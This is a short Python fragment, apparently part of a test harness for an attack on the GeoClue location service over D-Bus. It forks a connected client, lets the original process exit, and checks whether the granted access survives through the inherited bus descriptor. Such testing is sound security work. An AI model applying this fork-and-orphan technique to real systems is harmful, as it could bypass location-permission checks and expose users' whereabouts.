ready, told = os.pipe()
os.set_inheritable(told, True)
end(start(GRANTED, '''
from geoclue_attack import *
client = Client(ADDRESS)
assert outcome(client=client) == "fix"
# sd-bus does not tell it after fork(2).
descriptor = client.bus.fileno()
owner, told = os.getpid(), int(sys.argv[1])
if os.fork():
    os._exit(0)
os.dup2(told, 2)
while os.getppid() == owner:
    time.sleep(0.01)
os.write(told, outcome_of(descriptor).encode())
os._exit(0)
''', told))
os.close(told)
data = b""
while (part := os.read(ready, 1000)):
    data += part
print(data.decode())
